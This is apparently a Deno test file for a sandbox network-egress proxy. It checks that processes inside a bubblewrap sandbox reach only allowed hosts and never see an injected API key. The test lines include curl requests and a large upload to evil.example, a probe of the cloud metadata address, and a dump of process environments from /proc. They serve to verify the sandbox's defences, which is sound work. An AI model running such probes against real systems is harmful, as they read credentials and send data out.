/**
 * The way out of a step as a sandbox has it: a network of its own, `socat` on its loopback, and real
 * clients that know nothing of it but the variables they are given.
 *
 * @module
 */

import {
  deepStrictEqual as deepEqual,
  match,
  ok as yes,
  strictEqual as equal,
} from "node:assert/strict";
import { egressEnv } from "../../src/egress/inside.ts";
import { type Network, type NetworkRules, parseNetwork } from "../../src/resources/network.ts";
import { makePair } from "../helpers/certificate.ts";
import { missing, skippable } from "../helpers/requirements.ts";
import { NO_SANDBOX } from "../helpers/sandbox.ts";
import { tempDir } from "../helpers/temp_dir.ts";
import { always, type EgressRig, egressRig, HEAD, KEY, ok, rawServer } from "../rigs/egress_rig.ts";

const LACKS = missing("curl", "openssl") ?? NO_SANDBOX;

/** Runs a line in a network of its own, from which only the rig's socket leads out. */
async function runInside(
  rig: EgressRig,
  network: Network,
  line: string,
  ...args: readonly string[]
): Promise<string> {
  const bridge = "socat TCP-LISTEN:3128,fork,reuseaddr,backlog=64 UNIX-CONNECT:$1 & shift; " +
    "until curl -so /dev/null --noproxy '*' http://127.0.0.1:3128; do sleep 0.02; done; ";
  const variables = { PATH: "/usr/bin:/bin", ...egressEnv(parseNetwork(network) as NetworkRules) };
  const sandbox = "--unshare-all --die-with-parent --ro-bind / / --dev /dev --proc /proc " +
    `--bind ${rig.path} ${rig.path} --tmpfs /var/tmp --clearenv`;
  const set = Object.entries(variables).flatMap(([name, value]) => ["--setenv", name, value]);
  const run = ["sh", "-c", bridge + line, "sh", rig.path, ...args];
  const { stdout } = await new Deno.Command("bwrap", {
    args: [...sandbox.split(" "), ...set, ...run],
    stdin: "null",
    stderr: "null",
  }).output();
  return new TextDecoder().decode(stdout);
}

Deno.test({
  ...skippable("a sandbox reaches what its rules allow, and nothing else", LACKS),
  async fn() {
    await using dir = await tempDir();
    const cert = await makePair(dir.path, "web", "DNS:web.example");
    const key = await Deno.readTextFile(`${dir.path}/web.key`);
    await using web = rawServer(always(ok("web")), { key, cert });
    await using api = rawServer(
      always(
        ok('{"usage":{"input_tokens":5,"output_tokens":7}}', "Content-Type: application/json"),
      ),
    );
    await using other = rawServer(always(ok("other")));
    const network: Network = {
      allow: [`web.example:${web.port}`, `127.0.0.1:${web.port}`],
      inject: [{
        url: `http://127.0.0.1:${api.port}`,
        env: "API",
        headers: { authorization: { prefix: "Bearer ", fromSecret: { store: "s", key: "k" } } },
      }],
    };
    await using rig = await egressRig(network);
    const before = rig.egress.report().length;
    equal(before, 0);
    const said = await runInside(
      rig,
      network,
      `ask() { curl -s -m 20 -w ' %{http_code} %{http_connect}\\n' "$@"; }
       ask --cacert "$1" https://web.example:${web.port}/
       ask -o /dev/null https://evil.example/
       ask -o /dev/null http://169.254.169.254/latest/meta-data/
       ask --noproxy '*' http://127.0.0.1:${other.port}/
       ask -x "$HTTP_PROXY" --noproxy '' http://127.0.0.1:${other.port}/
       ask -H 'Authorization: Bearer placeholder' "$API/v1/messages"
       ask --noproxy '' "$API/v1/messages"
       ask --noproxy '' -p "$API/v1/messages"
       env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'
       exit 0`,
      `${dir.path}/web.crt`,
    );
    const lines = said.split("\n");
    const usage = '{"usage":{"input_tokens":5,"output_tokens":7}}';
    deepEqual(lines.slice(0, 8), [
      "web 200 200",
      " 000 403",
      " 403 000",
      " 000 000", // there is no way past the socket
      `svc: 127.0.0.1:${other.port} is not allowed by Sandbox "agents"`,
      " 403 000",
      `${usage} 200 000`,
      `${usage} 200 000`,
    ]);
    equal(lines[8], `${usage} 200 200`);
    yes(!said.includes(KEY), "the key is inside");
    equal(
      api.received.join("").match(new RegExp(`^authorization: Bearer ${KEY}\r$`, "gm"))?.length,
      3,
    );
    yes(!api.received.join("").includes("placeholder"));
    deepEqual(other.received, []);
    const { tokens, requests } = rig.reached(`http://127.0.0.1:${api.port}`)!;
    deepEqual([tokens?.input, requests], [15, 3]);
    match(rig.lines.join("\n"), /^network: evil\.example:443 is not allowed by Sandbox "agents"$/m);
  },
});

Deno.test({
  ...skippable("an answer to a refused upload arrives whole, through socat", LACKS),
  async fn() {
    const network: Network = { allow: ["a.example"] };
    await using rig = await egressRig(network);
    const said = await runInside(
      rig,
      network,
      `head -c 700000 /dev/zero > /var/tmp/big
       for i in 1 2 3 4 5 6 7 8 9 10; do
         curl -s -H 'Expect:' --data-binary @/var/tmp/big http://evil.example/
       done`,
    );
    equal(said, 'svc: evil.example:80 is not allowed by Sandbox "agents"\n'.repeat(10));
  },
});

Deno.test({
  ...skippable("an answer without a length arrives whole, through socat", LACKS),
  async fn() {
    const body = "x".repeat(3_000_000);
    await using server = rawServer(async ({ until, send }) => {
      await until(HEAD);
      await send(`HTTP/1.1 200 OK\r\n\r\n${body}`);
    });
    const network: Network = { inject: [{ url: `http://127.0.0.1:${server.port}`, env: "API" }] };
    await using rig = await egressRig(network);
    equal(await runInside(rig, network, 'curl -s "$API/x" | wc -c'), `${body.length}\n`);
  },
});
